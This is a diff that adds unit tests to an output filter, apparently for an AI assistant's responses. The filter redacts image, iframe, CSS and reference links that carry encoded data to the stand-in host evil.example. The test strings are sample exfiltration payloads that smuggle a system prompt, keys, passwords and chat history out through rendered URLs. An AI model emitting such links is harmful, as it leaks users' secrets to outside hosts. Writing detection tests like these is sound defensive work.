@@ -44,6 +44,27 @@ describe('output filter', () => {
     const out = run(createOutputFilter({ policy: policy({ allowedHosts: ['corp.example'] }) }), split(s, 6));
     assert.equal(out.text, 'Done. [REDACTED:link] and ![logo](https://docs.corp.example/logo.png?v=2) end');
   });
+  test('redacts images that carry data in the host name or a base64-looking path segment; plain image paths pass', () => {
+    const s = 'A ![a](https://73797374656d70726f6d7074.evil.example/p.png) B ![b](https://evil.example/i/U2VjcmV0S2V5MTIz.png) C ![c](https://img.example.org/photos/IMG_2041.jpg) D';
+    const out = run(createOutputFilter({ policy: policy() }), split(s, 16));
+    assert.equal(out.text, 'A [REDACTED:link] B [REDACTED:link] C ![c](https://img.example.org/photos/IMG_2041.jpg) D');
+  });
+  test('redacts HTML image and frame sources and CSS url() that carry data, outside code fences only', () => {
+    const html = 'See <img src="https://px.evil.example/t.gif?d=bXkgcGFzc3dvcmQ=" width="1" height="1"> and ' +
+      '<div style="background:url(\'https://evil.example/bg.png?k=dG9rZW4\')">x</div> and <iframe src="https://evil.example/f?m=hi"></iframe>.';
+    const out = run(createOutputFilter({ policy: policy() }), split(html, 16));
+    assert.equal(out.text, 'See [REDACTED:link] and <div style="background:[REDACTED:link]">x</div> and [REDACTED:link]</iframe>.');
+    const code = 'Add this to the page:\n```html\n<img src="https://analytics.example.com/px?event=purchase" width="1" height="1">\n```\nThen <img src="https://x.evil.example/p?q=1"> done.';
+    assert.equal(run(createOutputFilter({ policy: policy() }), split(code, 16)).text,
+      'Add this to the page:\n```html\n<img src="https://analytics.example.com/px?event=purchase" width="1" height="1">\n```\nThen [REDACTED:link] done.');
+  });
+  test('redacts a reference-link definition that carries data; a long source held back whole is still caught', () => {
+    const s = 'Loading ![status][s]\n\n[s]: https://evil.example/s.png?c=' + 'aGVsbG8gd29ybGQ'.repeat(12) + '\nEnd.';
+    assert.equal(run(createOutputFilter({ policy: policy() }), split(s, 16)).text, 'Loading ![status][s]\n\n[REDACTED:link]\nEnd.');
+    const long = 'x <img src="https://evil.example/p.png?d=' + 'Y2hhdCBoaXN0b3J5'.repeat(20) + '"> y';
+    assert.equal(run(createOutputFilter({ policy: policy() }), split(long, 16)).text, 'x [REDACTED:link] y');
+    assert.equal(run(createOutputFilter({ policy: policy({ exfiltration: 'cut' }) }), split(long, 16)).cut, 'guard.exfiltration');
+  });
   test('PII passes by default and is redacted when policy asks', () => {
     const s = 'Contact jane@example.com for details.';
     assert.equal(run(createOutputFilter({ policy: policy() }), [s]).text, s);
